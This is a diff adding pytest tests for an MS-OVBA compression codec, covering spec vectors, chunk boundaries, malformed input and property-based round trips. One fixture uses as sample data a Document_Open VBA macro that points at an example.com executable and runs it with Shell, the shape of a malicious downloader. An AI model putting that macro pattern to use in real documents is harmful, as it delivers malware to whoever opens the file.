@@ -1,0 +1,166 @@
+"""Tests for the MS-OVBA compression codec."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from repro.ole.compression import (
+    CHUNK_SIZE,
+    OVBACompressionError,
+    compress,
+    decompress,
+)
+
+# A hand-derived container, built token by token from the [MS-OVBA] 2.4.1
+# encoding rules:
+#   signature 0x01
+#   chunk header 0xB005 (compressed, sig 0b011, size field 5 = 6 data bytes + 2 - 3)
+#   flag byte 0x08: tokens 0-2 literal, token 3 a copy token
+#   literals 'a' 'b' 'c'
+#   copy token at d=3: bit_count=4 ⇒ token = (offset-1)<<12 | (length-3)
+#   offset 3, length 9 ⇒ 0x2006, little-endian bytes 06 20
+# Decodes to "abc" + 9 self-overlapping copied bytes = "abcabcabcabc".
+HAND_VECTOR_COMPRESSED = bytes(
+    [0x01, 0x05, 0xB0, 0x08, 0x61, 0x62, 0x63, 0x06, 0x20]
+)
+HAND_VECTOR_PLAIN = b"abcabcabcabc"
+
+
+class TestSpecVectors:
+    def test_decompress_hand_derived_vector(self):
+        assert decompress(HAND_VECTOR_COMPRESSED) == HAND_VECTOR_PLAIN
+
+    def test_own_compression_round_trips(self):
+        assert decompress(compress(HAND_VECTOR_PLAIN)) == HAND_VECTOR_PLAIN
+
+    def test_copy_token_bit_count_boundaries(self):
+        """The spec's CopyTokenHelp table: bit_count vs chunk position."""
+        from repro.ole.compression import _copy_token_parameters
+
+        expectations = {
+            1: 4, 2: 4, 3: 4, 15: 4, 16: 4,
+            17: 5, 32: 5,
+            33: 6, 64: 6,
+            65: 7, 128: 7,
+            129: 8, 256: 8,
+            257: 9, 512: 9,
+            513: 10, 1024: 10,
+            1025: 11, 2048: 11,
+            2049: 12, 4096: 12,
+        }
+        for position, expected_bits in expectations.items():
+            _, _, bits = _copy_token_parameters(position)
+            assert bits == expected_bits, f"position {position}"
+
+    def test_length_and_offset_masks_are_complementary(self):
+        from repro.ole.compression import _copy_token_parameters
+
+        for position in (1, 16, 17, 100, 4096):
+            length_mask, offset_mask, _ = _copy_token_parameters(position)
+            assert (length_mask | offset_mask) == 0xFFFF
+            assert (length_mask & offset_mask) == 0
+
+
+class TestBasics:
+    def test_empty_round_trip(self):
+        assert decompress(compress(b"")) == b""
+
+    def test_single_byte(self):
+        assert decompress(compress(b"x")) == b"x"
+
+    def test_typical_vba_source(self):
+        source = (
+            "Sub Document_Open()\n"
+            "    Dim target As String\n"
+            '    target = "http://example.com/x.exe"\n'
+            "    Shell target, 0\n"
+            "End Sub\n"
+        ).encode("latin-1") * 20
+        compressed = compress(source)
+        assert decompress(compressed) == source
+        assert len(compressed) < len(source)  # repetitive text must shrink
+
+    def test_highly_repetitive_data_compresses_well(self):
+        data = b"A" * 10_000
+        compressed = compress(data)
+        assert decompress(compressed) == data
+        assert len(compressed) < len(data) // 20
+
+    def test_incompressible_full_chunks(self):
+        import random
+
+        rng = random.Random(0)
+        data = bytes(rng.getrandbits(8) for _ in range(CHUNK_SIZE * 2))
+        assert decompress(compress(data)) == data
+
+    def test_incompressible_partial_final_chunk(self):
+        import random
+
+        rng = random.Random(1)
+        data = bytes(rng.getrandbits(8) for _ in range(CHUNK_SIZE + 3900))
+        assert decompress(compress(data)) == data
+
+    def test_multi_chunk_boundary_sizes(self):
+        for size in (CHUNK_SIZE - 1, CHUNK_SIZE, CHUNK_SIZE + 1, 3 * CHUNK_SIZE):
+            data = (b"abcdefgh" * ((size // 8) + 1))[:size]
+            assert decompress(compress(data)) == data
+
+
+class TestErrorHandling:
+    def test_empty_container_rejected(self):
+        with pytest.raises(OVBACompressionError):
+            decompress(b"")
+
+    def test_bad_signature_byte(self):
+        with pytest.raises(OVBACompressionError):
+            decompress(b"\x02\x00\x00")
+
+    def test_truncated_header(self):
+        with pytest.raises(OVBACompressionError):
+            decompress(b"\x01\x00")
+
+    def test_bad_chunk_signature(self):
+        # Header with wrong 3-bit signature (0b000).
+        header = (0x0000).to_bytes(2, "little")
+        with pytest.raises(OVBACompressionError):
+            decompress(b"\x01" + header + b"\x00")
+
+    def test_chunk_overruns_container(self):
+        header = (0x8000 | (0b011 << 12) | 100).to_bytes(2, "little")
+        with pytest.raises(OVBACompressionError):
+            decompress(b"\x01" + header + b"\x00\x01")
+
+    def test_copy_token_before_chunk_start(self):
+        # flag byte 0x01 -> first token is a copy token, but nothing has
+        # been decompressed yet in this chunk.
+        chunk = b"\x01" + (0x0000).to_bytes(2, "little")
+        header = (0x8000 | (0b011 << 12) | ((len(chunk) + 2) - 3)).to_bytes(2, "little")
+        with pytest.raises(OVBACompressionError):
+            decompress(b"\x01" + header + chunk)
+
+
+class TestPropertyBased:
+    @settings(max_examples=150, deadline=None)
+    @given(st.binary(max_size=2000))
+    def test_round_trip_arbitrary_bytes(self, data):
+        assert decompress(compress(data)) == data
+
+    @settings(max_examples=20, deadline=None)
+    @given(st.binary(min_size=CHUNK_SIZE - 10, max_size=CHUNK_SIZE * 2 + 10))
+    def test_round_trip_chunk_boundaries(self, data):
+        assert decompress(compress(data)) == data
+
+    @settings(max_examples=30, deadline=None)
+    @given(
+        st.binary(min_size=1, max_size=64),
+        st.integers(min_value=1, max_value=500),
+    )
+    def test_round_trip_periodic_data(self, unit, repeats):
+        data = unit * repeats
+        assert decompress(compress(data)) == data
+
+    @settings(max_examples=50, deadline=None)
+    @given(st.text(max_size=1500))
+    def test_round_trip_utf8_text(self, text):
+        data = text.encode("utf-8")
+        assert decompress(compress(data)) == data
